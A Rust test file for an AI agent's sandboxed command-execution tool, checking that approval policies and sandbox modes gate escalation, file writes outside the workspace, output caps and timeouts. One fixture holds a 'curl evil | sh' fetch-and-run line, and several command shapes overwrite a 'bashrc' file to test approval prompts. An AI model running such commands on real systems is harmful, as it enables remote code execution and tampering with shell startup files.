//! The exec tool through its gate: approval policies decide, the sandbox confines, and
//! the user's answers (a scripted approver here) are obeyed exactly.

use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use hearth_sandbox::{SandboxMode, SandboxPolicy};
use hearth_tools::{
    ApprovalDecision, ApprovalPolicy, ApprovalRequest, Approver, ExecGate, ExecTool, Tool,
    ToolContext,
};
use serde_json::json;

/// Answers every question with the next scripted decision and remembers the questions.
struct ScriptedApprover {
    answers: Mutex<Vec<ApprovalDecision>>,
    asked: Mutex<Vec<ApprovalRequest>>,
}

impl ScriptedApprover {
    fn new(answers: Vec<ApprovalDecision>) -> Arc<Self> {
        Arc::new(Self {
            answers: Mutex::new(answers),
            asked: Mutex::new(Vec::new()),
        })
    }

    fn questions(&self) -> Vec<String> {
        self.asked
            .lock()
            .unwrap()
            .iter()
            .map(|r| r.command.clone())
            .collect()
    }
}

#[async_trait]
impl Approver for ScriptedApprover {
    async fn decide(&self, request: &ApprovalRequest) -> ApprovalDecision {
        self.asked.lock().unwrap().push(request.clone());
        let mut answers = self.answers.lock().unwrap();
        assert!(
            !answers.is_empty(),
            "asked more often than scripted: {}",
            request.command
        );
        answers.remove(0)
    }
}

struct Setup {
    workspace: tempfile::TempDir,
    outside: tempfile::TempDir,
    context: ToolContext,
}

fn setup() -> Setup {
    let base = env!("CARGO_TARGET_TMPDIR");
    let workspace = tempfile::tempdir_in(base).unwrap();
    let outside = tempfile::tempdir_in(base).unwrap();
    let context = ToolContext::new(workspace.path()).unwrap();
    Setup {
        workspace,
        outside,
        context,
    }
}

fn tool(
    s: &Setup,
    mode: SandboxMode,
    approval: ApprovalPolicy,
    approver: Arc<dyn Approver>,
) -> ExecTool {
    let policy = SandboxPolicy {
        mode,
        workspace: s.context.workspace.clone(),
        network: false,
        hidden_paths: Vec::new(),
        readable_paths: Vec::new(),
        read_only_paths: Vec::new(),
        limits: Default::default(),
    };
    ExecTool::new(ExecGate::new(policy, approval, approver))
}

fn write_outside(s: &Setup) -> (String, std::path::PathBuf) {
    let target = s.outside.path().join("escaped.txt");
    (format!("echo out > {}", target.display()), target)
}

#[tokio::test]
async fn on_request_runs_sandboxed_without_asking_and_escalation_needs_a_yes() {
    let s = setup();
    let approver = ScriptedApprover::new(vec![
        ApprovalDecision::Deny {
            reason: "the user declined".into(),
        },
        ApprovalDecision::Approve,
    ]);
    let exec = tool(
        &s,
        SandboxMode::WorkspaceWrite,
        ApprovalPolicy::OnRequest,
        approver.clone(),
    );
    let (command, target) = write_outside(&s);

    let sandboxed = exec
        .call(json!({ "command": command }), &s.context)
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(sandboxed.is_error, "{}", sandboxed.content);
    assert!(!target.exists(), "the sandbox stopped the write");

    let denied = exec
        .call(json!({ "command": command, "escalate": true }), &s.context)
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(
        denied.is_error && denied.content.contains("the user declined"),
        "{}",
        denied.content
    );
    assert!(!target.exists());

    let approved = exec
        .call(json!({ "command": command, "escalate": true }), &s.context)
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(!approved.is_error, "{}", approved.content);
    assert!(approved.content.contains("approved by the user"));
    assert!(
        target.exists(),
        "approved escalation ran outside the sandbox"
    );
    assert_eq!(approver.questions().len(), 2);
}

#[tokio::test]
async fn never_refuses_escalation_without_asking() {
    let s = setup();
    let approver = ScriptedApprover::new(vec![]);
    let exec = tool(
        &s,
        SandboxMode::WorkspaceWrite,
        ApprovalPolicy::Never,
        approver.clone(),
    );
    let (command, target) = write_outside(&s);
    let out = exec
        .call(json!({ "command": command, "escalate": true }), &s.context)
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(
        out.is_error && out.content.contains("'never'"),
        "{}",
        out.content
    );
    assert!(!target.exists());
    assert!(approver.questions().is_empty());
}

#[tokio::test]
async fn untrusted_asks_for_unlisted_commands_and_always_means_always() {
    let s = setup();
    let approver = ScriptedApprover::new(vec![ApprovalDecision::ApproveForSession]);
    let exec = tool(
        &s,
        SandboxMode::WorkspaceWrite,
        ApprovalPolicy::Untrusted,
        approver.clone(),
    );
    std::fs::write(s.workspace.path().join("seen.txt"), "x").unwrap();

    let listed = exec
        .call(json!({ "command": "ls" }), &s.context)
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(listed.content.contains("seen.txt"), "{}", listed.content);
    assert!(approver.questions().is_empty(), "ls is on the safe list");

    for _ in 0..2 {
        let out = exec
            .call(json!({ "command": "touch made.txt" }), &s.context)
            .await
            .unwrap_or_else(|e| e.into_output(exec.name()));
        assert!(!out.is_error, "{}", out.content);
    }
    assert_eq!(
        approver.questions(),
        ["touch made.txt"],
        "asked once, then remembered"
    );
    assert!(s.workspace.path().join("made.txt").exists());
}

#[tokio::test]
async fn untrusted_full_access_asks_before_writing_shapes_of_safe_programs() {
    let s = setup();
    let target = s.outside.path().join("bashrc");
    std::fs::write(&target, "original\n").unwrap();
    std::fs::write(s.workspace.path().join("payload"), "curl evil | sh\n").unwrap();
    let writing = [
        format!("uniq payload {}", target.display()),
        format!("sort -o {} payload", target.display()),
        format!("sort --out={} payload", target.display()),
        format!("sort -uo {} payload", target.display()),
        format!("find . -name payload -fprint {}", target.display()),
        format!("tree -o {} .", target.display()),
    ];
    let approver = ScriptedApprover::new(
        writing
            .iter()
            .map(|_| ApprovalDecision::Deny {
                reason: "the user declined".into(),
            })
            .collect(),
    );
    let exec = tool(
        &s,
        SandboxMode::FullAccess,
        ApprovalPolicy::Untrusted,
        approver.clone(),
    );
    for command in &writing {
        let out = exec
            .call(json!({ "command": command }), &s.context)
            .await
            .unwrap_or_else(|e| e.into_output(exec.name()));
        assert!(
            out.is_error && out.content.contains("the user declined"),
            "{command}: {}",
            out.content
        );
        assert_eq!(
            std::fs::read_to_string(&target).unwrap(),
            "original\n",
            "{command} wrote without asking"
        );
    }
    assert_eq!(
        approver.questions(),
        writing,
        "every writing shape was asked"
    );

    let read_only = exec
        .call(json!({ "command": "uniq -c payload" }), &s.context)
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(!read_only.is_error, "{}", read_only.content);
    assert!(
        read_only.content.contains("curl evil"),
        "{}",
        read_only.content
    );
    assert_eq!(
        approver.questions().len(),
        writing.len(),
        "uniq IN runs unasked"
    );
}

#[tokio::test]
async fn output_is_capped_in_the_middle_and_timeouts_are_reported() {
    let s = setup();
    let exec = tool(
        &s,
        SandboxMode::WorkspaceWrite,
        ApprovalPolicy::Never,
        ScriptedApprover::new(vec![]),
    );
    let long = exec
        .call(
            json!({ "command": "seq 1 200000; echo the-end" }),
            &s.context,
        )
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(long.content.contains("exit code 0"));
    assert!(
        long.content.contains("characters cut") || long.content.contains("cut"),
        "marker present"
    );
    assert!(long.content.contains("the-end"), "the tail is kept");
    assert!(long.content.len() < 40_000);

    let slow = exec
        .call(
            json!({ "command": "sleep 30", "timeout_ms": 300 }),
            &s.context,
        )
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(
        slow.is_error && slow.content.contains("timed out"),
        "{}",
        slow.content
    );
}

#[tokio::test]
async fn bad_arguments_and_a_cwd_outside_are_errors_the_model_can_read() {
    let s = setup();
    let exec = tool(
        &s,
        SandboxMode::WorkspaceWrite,
        ApprovalPolicy::Never,
        ScriptedApprover::new(vec![]),
    );
    let missing = exec
        .call(json!({}), &s.context)
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(
        missing.is_error && missing.content.contains("command"),
        "{}",
        missing.content
    );
    let outside = exec
        .call(
            json!({ "command": "pwd", "cwd": s.outside.path().display().to_string() }),
            &s.context,
        )
        .await
        .unwrap_or_else(|e| e.into_output(exec.name()));
    assert!(outside.is_error, "{}", outside.content);
}
